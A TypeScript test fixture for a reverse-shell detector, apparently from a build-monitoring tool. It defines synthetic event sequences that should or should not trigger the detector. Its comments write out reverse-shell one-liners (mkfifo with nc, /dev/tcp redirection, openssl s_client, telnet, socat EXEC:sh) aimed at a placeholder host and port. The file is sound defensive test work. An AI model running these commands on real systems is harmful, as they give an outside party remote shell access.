import type { Samples, Sequences } from "../engine/signature.ts";
import type { DescriptorKind } from "../events/words.ts";

const peer = "198.51.100.7:4444";
const local = "10.0.0.2:50000";

/** What is on descriptors 0, 1 and 2: a kind and an inode each. */
type Wire = readonly [DescriptorKind, number];
const log: Wire = ["pipe", 10];
const none: Wire = ["device", 5];

/** Processes by key, children of the job's first unless told; the pid is 100 more. */
function runs(
  process_key: number,
  command: string,
  stdio: readonly [Wire, Wire, Wire],
  parent_key = process_key === 1 ? 0 : 1,
): Samples {
  const args = command.split(" ");
  const [[stdin_kind, stdin_inode], [stdout_kind, stdout_inode], [stderr_kind, stderr_inode]] =
    stdio;
  return {
    ...{ event: "process_exec", process_key, parent_key, pid: 100 + process_key },
    ...{ path: `/usr/bin/${args[0]}`, args },
    ...{ stdin_kind, stdin_inode, stdout_kind, stdout_inode, stderr_kind, stderr_inode },
  };
}

const opens = (process_key: number, inode: number, access: "read" | "write"): Samples => ({
  ...{ event: "file_open", process_key, inode, access, mode: 0o010644 },
});
const forks = (parent_key: number, child_key: number): Samples => ({
  ...{ event: "process_fork", process_key: parent_key, parent_key, child_key },
  child_pid: 100 + child_key,
});
const connects = (process_key: number, to = peer): Samples => ({
  ...{ event: "socket_connect", process_key, type: "stream", protocol: 6, error: 115 },
  ...{ peer: to, local },
});
const accepts = (process_key: number, from = peer): Samples => ({
  ...{ event: "socket_accept", process_key, type: "stream", protocol: 6 },
  ...{ peer: from, local: "10.0.0.2:7000" },
});
const puts = (process_key: number, [kind, inode]: Wire, descriptor: number): Samples => ({
  ...{ event: "descriptor_duplicate", process_key, kind, inode, descriptor },
});

const shell = runs(1, "bash build.sh", [none, log, log]);
const python = runs(2, "python3 tool.py", [none, log, log]);
const to: Wire = ["pipe", 20];
const from: Wire = ["pipe", 21];
const errors: Wire = ["pipe", 22];
const tty: Wire = ["terminal", 3];
const fifo: Wire = ["pipe", 30];

export const fires: Sequences = [
  // Popen("/bin/sh", stdin=PIPE, stdout=PIPE, stderr=STDOUT) in a process with a connection.
  [shell, python, connects(2), runs(3, "sh", [to, from, from], 2)],
  // The shell first, the connection later; three pipes; and what the shell runs has them, too.
  [
    shell,
    python,
    runs(3, "bash -i", [to, from, errors], 2),
    runs(4, "id", [to, from, errors], 3),
    connects(2),
  ],
  // By way of a shell that is told to start the shell.
  [
    shell,
    python,
    connects(2),
    runs(3, "sh -c bash", [to, from, from], 2),
    runs(4, "bash", [to, from, from], 3),
  ],
  // child_process.spawn("/bin/sh"): node makes unix sockets.
  [
    shell,
    runs(2, "node tool.js", [none, log, log]),
    connects(2),
    runs(
      3,
      "sh",
      [
        ["unix_socket", 20],
        ["unix_socket", 21],
        ["unix_socket", 22],
      ],
      2,
    ),
  ],
  // socat: one pair of sockets, by a child that it forked for the peer.
  [
    shell,
    runs(2, "socat TCP-LISTEN:7000,fork EXEC:sh", [none, log, log]),
    accepts(2),
    forks(2, 3),
    forks(3, 4),
    runs(4, "sh", [["unix_socket", 20], ["unix_socket", 20], log], 3),
  ],
  // Datagrams, unconnected.
  [
    shell,
    python,
    { event: "socket_send", process_key: 2, type: "datagram", peer },
    runs(3, "sh", [to, from, from], 2),
  ],
  // A pseudo-terminal; and an interpreter on one.
  [shell, python, connects(2), runs(3, "bash -li", [tty, tty, tty], 2)],
  [shell, python, connects(2), runs(3, "python3", [tty, tty, tty], 2)],
  // A terminal in between.
  [
    shell,
    python,
    connects(2),
    runs(3, "script -qc /bin/sh /dev/null", [to, from, from], 2),
    runs(4, "sh", [tty, tty, tty], 3),
  ],
  // rm f; mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT >f
  [
    shell,
    runs(2, "cat f", [none, to, log]),
    runs(3, "sh -i", [to, from, from]),
    runs(4, "nc 198.51.100.7 4444", [from, fifo, log]),
    connects(4),
  ],
  // Both sides are of the job.
  [
    shell,
    { event: "socket_listen", process_key: 1, type: "stream", local: "127.0.0.1:7000" },
    python,
    connects(2, "127.0.0.1:7000"),
    runs(3, "bash", [to, from, from], 2),
  ],
  // The fifo without -i, for a server.
  [
    shell,
    runs(3, "sh", [to, from, from]),
    runs(4, "ncat -l 7000", [from, fifo, log]),
    runs(2, "cat f", [none, to, log]),
    accepts(4),
  ],
  // sh -i <f 2>&1 | openssl s_client -connect HOST:PORT >f
  [
    shell,
    runs(4, "openssl s_client -quiet -connect h:4444", [from, fifo, log]),
    connects(4),
    runs(3, "sh", [fifo, from, from]),
  ],
  // sh <in >out 2>&1 & and a program that opens both, and copies.
  [
    shell,
    opens(3, 30, "read"),
    opens(3, 31, "write"),
    runs(3, "sh", [fifo, ["pipe", 31], ["pipe", 31]]),
    python,
    connects(2),
    opens(2, 31, "read"),
    opens(2, 30, "write"),
  ],
  // exec 3<>/dev/tcp/HOST/PORT; cat <&3 | while read -r line; do $line >&3; done
  [
    shell,
    {
      ...runs(2, "cat", [["inet_socket", 40], to, log]),
      ...{ stdin_peer: peer, stdin_local: local },
    } as Samples,
    { ...runs(3, "id", [to, ["inet_socket", 40], log]), stdout_peer: peer } as Samples,
  ],
  // telnet HOST PORT | sh | telnet HOST PORT2
  [shell, runs(2, "telnet h 1", [none, to, log]), connects(2), runs(3, "sh", [to, from, log])],
  // coproc sh -i, in a shell that has a connection.
  [shell, connects(1), runs(3, "bash -i", [to, from, log])],
  // exec 3<>/dev/tcp/HOST/PORT; cat <&3 | sh
  [
    shell,
    {
      ...runs(2, "cat", [["inet_socket", 40], to, log]),
      ...{ stdin_peer: peer, stdin_local: local },
    } as Samples,
    runs(3, "sh", [to, log, log]),
  ],
];

export const silent: Sequences = [
  // curl URL | sh -s -- -y, and into a log.
  [
    shell,
    runs(2, "curl https://sh.rustup.rs", [none, to, log]),
    connects(2, "198.51.100.7:443"),
    runs(3, "sh -s -- -y", [to, log, log]),
  ],
  [
    shell,
    runs(2, "curl https://sh.rustup.rs", [none, to, log]),
    connects(2, "198.51.100.7:443"),
    runs(3, "sh", [to, from, from]),
    runs(4, "tee log", [from, log, log]),
  ],
  // poetry writes a program into an interpreter.
  [shell, python, connects(2), runs(3, "python3 -I -W ignore -", [to, from, errors], 2)],
  // Commands with -c, and scripts.
  [shell, python, connects(2), runs(3, "sh -c make", [to, from, errors], 2)],
  [shell, python, connects(2), runs(3, "bash -e script.sh", [to, from, errors], 2)],
  // Without a connection, with one to a server of the job, or only a question for a name.
  [shell, python, runs(3, "bash", [to, from, errors], 2)],
  [
    shell,
    { event: "socket_listen", process_key: 1, type: "stream", local: "127.0.0.1:7000" },
    python,
    connects(2, "127.0.0.1:7000"),
    runs(3, "bash", [to, from, errors], 2),
  ],
  [
    shell,
    python,
    { ...connects(2, "10.0.0.1:53"), type: "datagram" } as Samples,
    runs(3, "bash", [to, from, errors], 2),
  ],
  // A terminal server under test, whose client is of the job.
  [shell, connects(1, local), python, accepts(2, local), runs(3, "bash", [tty, tty, tty], 2)],
  // Both the script and what reads the output are of the same pipeline: generate | sh | post.
  [
    shell,
    runs(2, "generate", [none, to, log]),
    runs(3, "sh", [to, from, log]),
    runs(4, "curl -d @- https://example.org", [from, log, log]),
    connects(4, "198.51.100.7:443"),
  ],
  // A script that looked for a port, and feeds a shell with a here-document.
  [
    shell,
    connects(1),
    forks(1, 2),
    puts(2, to, 0),
    puts(2, from, 1),
    runs(2, "bash", [to, from, log]),
  ],
  // A shell that inherits what the networked process was started with.
  [runs(1, "python3 tool.py", [to, from, from]), connects(1), runs(2, "sh", [to, from, from])],
  // A cell of a notebook.
  [
    shell,
    runs(2, "python3 -m ipykernel_launcher -f x", [none, log, log]),
    connects(2),
    runs(3, "bash", [to, from, errors], 2),
  ],
  // A session of an SSH server.
  [shell, runs(2, "sshd -D", [none, log, log]), accepts(2), runs(3, "bash -l", [tty, tty, tty], 2)],
];
